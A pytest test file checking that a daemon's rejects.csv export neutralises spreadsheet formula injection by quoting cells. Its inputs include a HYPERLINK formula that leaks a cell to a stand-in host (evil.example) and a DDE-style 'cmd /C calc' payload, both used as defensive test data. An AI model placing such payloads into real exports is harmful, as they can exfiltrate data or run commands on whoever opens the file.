"""``rejects.csv`` is opened with a spreadsheet, and what it shows was typed by anybody."""

from __future__ import annotations

import csv
import io

import pytest

from alp_daemon.domain.model import Reject
from alp_daemon.services.reports.report import rejects_csv, rejects_of_csv


def shown(value: str) -> str:
    """The cell of a value."""
    _, row = csv.reader(io.StringIO(rejects_csv([Reject(2, "Phone", value, "invalid")]), newline=""))
    return row[2]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example?"&A1)',
        "=1+1",
        "@SUM(1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3=1",
        "+x",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＠SUM(1)",
        "＋1+x",
        "－2+3=1",
    ],
)
def test_a_formula_is_shown_as_text(value: str) -> None:
    assert shown(value) == f"'{value}"


@pytest.mark.parametrize(
    "value",
    [
        "+1 212 555 01",
        "-2125550123",
        "+1 (212) 555-0123.",
        "nonsense",
        "a=b",
        "'quoted'",
        "",
        "1-2",
        "-",
        "＋１２１２",
        "a＝b",
    ],
)
def test_a_number_stays_as_it_was_typed(value: str) -> None:
    assert shown(value) == value


@pytest.mark.parametrize(
    "value", ["=1", "'=1", "''=1", "'", "+1 212", "'+1 212", "a\r\nb", '"', "\t", "\n", "\n=", "＝1"]
)
def test_it_can_be_read_again(value: str) -> None:
    rejects = [Reject(2, value, value, "invalid")]
    assert rejects_of_csv(rejects_csv(rejects)) == rejects


def test_a_column_may_be_called_anything() -> None:
    assert "'=1" in rejects_csv([Reject(2, "=1", "x", "invalid")])
